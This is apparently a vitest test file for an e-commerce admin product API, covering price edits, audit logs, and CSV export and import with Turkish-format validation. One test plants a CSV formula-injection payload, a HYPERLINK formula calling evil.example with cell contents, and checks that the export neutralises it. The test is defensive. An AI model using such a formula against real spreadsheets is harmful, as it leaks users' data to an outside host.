import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as exportCsv } from "@/app/api/admin/products/export/route";
import { POST as importCsv } from "@/app/api/admin/products/import/route";
import { POST as updateProduct } from "@/app/api/admin/products/update/route";
import { parseCsv, writeCsv } from "@/lib/csv";
import { parseLiraInput } from "@/lib/lira-input";
import { db } from "@/server/platform/db/client";
import { auditLog, cacheVersions, products } from "@/server/platform/db/schema";
import { call } from "../support/api";
import { staffSession } from "../support/staff";

let staff = "";
beforeAll(async () => {
  staff = await staffSession();
});

const catalogVersion = async () => (await db().select().from(cacheVersions).where(eq(cacheVersions.tag, "catalog")))[0]?.version ?? 0;
const snapshot = () => db().select().from(products).orderBy(products.id);

describe("product edit", () => {
  it("saves the new price, records the audit, and invalidates the catalogue", async () => {
    const [p] = await db().select().from(products).limit(1);
    const version = await catalogVersion();
    const body = {
      productId: p!.id,
      name: p!.name,
      salesPrice: 123456,
      unDiscountedSalesPrice: Math.max(p!.unDiscountedSalesPrice, 123456),
      stock: 7,
      isNewProduct: true,
      isBestSellingProduct: p!.isBestSellingProduct,
      isSuggestedProduct: p!.isSuggestedProduct,
      isActive: true,
    };
    const res = await call(updateProduct, "/api/admin/products/update", { cookie: staff, body });
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({ salesPrice: 123456, stock: 7 });
    const [after] = await db().select().from(products).where(eq(products.id, p!.id));
    expect(after).toMatchObject({ salesPrice: 123456, stock: 7, isNewProduct: true });
    expect(await catalogVersion()).toBe(version + 1);
    const [audit] = await db()
      .select()
      .from(auditLog)
      .where(eq(auditLog.entityId, String(p!.id)));
    expect(audit).toMatchObject({ action: "product.update", before: { salesPrice: p!.salesPrice }, after: { salesPrice: 123456 } });
  });

  it("refuses a list price below the sale price", async () => {
    const [p] = await db().select().from(products).limit(1);
    const res = await call(updateProduct, "/api/admin/products/update", {
      cookie: staff,
      body: {
        productId: p!.id,
        name: p!.name,
        salesPrice: 5000,
        unDiscountedSalesPrice: 4000,
        stock: 1,
        isNewProduct: false,
        isBestSellingProduct: false,
        isSuggestedProduct: false,
        isActive: true,
      },
    });
    expect(res.status).toBe(400);
  });
});

describe("product CSV", () => {
  it("re-importing an unchanged export changes nothing", async () => {
    const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
    expect(exported.status).toBe(200);
    expect(exported.headers.get("content-type")).toContain("text/csv");
    const before = await snapshot();
    const version = await catalogVersion();
    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: exported.text } });
    expect(res.status).toBe(200);
    expect(res.json).toEqual({ updated: 0, unchanged: before.length, rejected: [] });
    expect(await snapshot()).toEqual(before);
    expect(await catalogVersion()).toBe(version);
  });

  it("exports a name that a spreadsheet would run as a formula as text, and reads it back as it was", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Fiyat listesi")';
    const [p] = await db().select().from(products).orderBy(products.code).limit(1);
    await db().update(products).set({ name: formula }).where(eq(products.id, p!.id));
    const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
    const line = exported.text.split("\r\n").find((l) => l.startsWith(`${p!.code};`));
    expect(line?.split(";")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Fiyat listesi"")"`);
    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: exported.text } });
    expect([res.json.updated, res.json.rejected]).toEqual([0, []]);
    expect((await db().select().from(products).where(eq(products.id, p!.id)))[0]!.name).toBe(formula);
  });

  it("imports the good rows and reports each bad row with its line number and reason", async () => {
    const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
    const [head, ...rows] = parseCsv(exported.text).map((r) => r.fields);
    const good1 = [...rows[0]!];
    good1[2] = "1.999,90";
    good1[3] = "2.500,00";
    const good2 = [...rows[1]!];
    good2[4] = "42";
    const badPrice = [...rows[2]!];
    badPrice[2] = "on iki";
    const unknown = [...rows[3]!];
    unknown[0] = "YOK-BOYLE-KOD";
    const badFlag = [...rows[4]!];
    badFlag[5] = "belki";
    const listBelow = [...rows[5]!];
    listBelow[2] = "500,00";
    listBelow[3] = "400,00";
    const csv = writeCsv([head!, good1, badPrice, good2, unknown, ["kısa"], badFlag, listBelow]);
    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv } });
    expect(res.status).toBe(200);
    expect(res.json.updated).toBe(2);
    expect(res.json.rejected.map((r: { line: number }) => r.line)).toEqual([3, 5, 6, 7, 8]);
    const reasons = res.json.rejected.map((r: { reason: string }) => r.reason);
    expect(reasons[0]).toContain("satis_fiyati");
    expect(reasons[1]).toContain("YOK-BOYLE-KOD");
    expect(reasons[2]).toContain("sütun");
    expect(reasons[3]).toContain("evet");
    expect(reasons[4]).toContain("Liste fiyatı");
    const [p1] = await db().select().from(products).where(eq(products.code, good1[0]!));
    expect(p1).toMatchObject({ salesPrice: 199990, unDiscountedSalesPrice: 250000 });
    const [p2] = await db().select().from(products).where(eq(products.code, good2[0]!));
    expect(p2!.stock).toBe(42);
    const [untouched] = await db().select().from(products).where(eq(products.code, badPrice[0]!));
    expect(untouched!.salesPrice).toBe(parseLiraInput(rows[2]![2]!));
  });

  it("carries each product's box (cm and grams): set and cleared by the file, a half box refused, left alone without its columns", async () => {
    const exported = await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" });
    const [head, ...rows] = parseCsv(exported.text).map((r) => r.fields);
    expect(head!.slice(-4)).toEqual(["koli_uzunluk_cm", "koli_genislik_cm", "koli_yukseklik_cm", "koli_agirlik_g"]);
    const boxed = [...rows[6]!.slice(0, -4), "40", "30", "20", "2500"];
    const half = [...rows[7]!.slice(0, -4), "40", "", "20", "2500"];
    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: writeCsv([head!, boxed, half]) } });
    expect(res.json.updated).toBe(1);
    expect(res.json.rejected).toEqual([{ line: 3, reason: expect.stringContaining("koli_genislik_cm") }]);
    const boxOf = async (code: string) =>
      (
        await db()
          .select({ l: products.parcelLength, w: products.parcelWidth, h: products.parcelHeight, g: products.parcelWeight })
          .from(products)
          .where(eq(products.code, code))
      )[0];
    expect(await boxOf(boxed[0]!)).toEqual({ l: 40, w: 30, h: 20, g: 2500 });
    const again = (await call(exportCsv, "/api/admin/products/export", { cookie: staff, method: "GET" })).text;
    expect(again.split("\r\n").find((l) => l.startsWith(`${boxed[0]};`))).toMatch(/;40;30;20;2500$/);

    const withoutBox = writeCsv([head!.slice(0, -4), [...boxed.slice(0, -4)]]);
    expect((await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: withoutBox } })).json.unchanged).toBe(1);
    expect(await boxOf(boxed[0]!)).toEqual({ l: 40, w: 30, h: 20, g: 2500 });
    const cleared = [...boxed.slice(0, -4), "", "", "", ""];
    expect(
      (await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: writeCsv([head!, cleared]) } })).json.updated,
    ).toBe(1);
    expect(await boxOf(boxed[0]!)).toEqual({ l: null, w: null, h: null, g: null });
  });

  it("reports a file without the expected header on line 1", async () => {
    const res = await call(importCsv, "/api/admin/products/import", { cookie: staff, body: { csv: "a;b\n1;2\n" } });
    expect(res.json.updated).toBe(0);
    expect(res.json.rejected[0].line).toBe(1);
  });
});
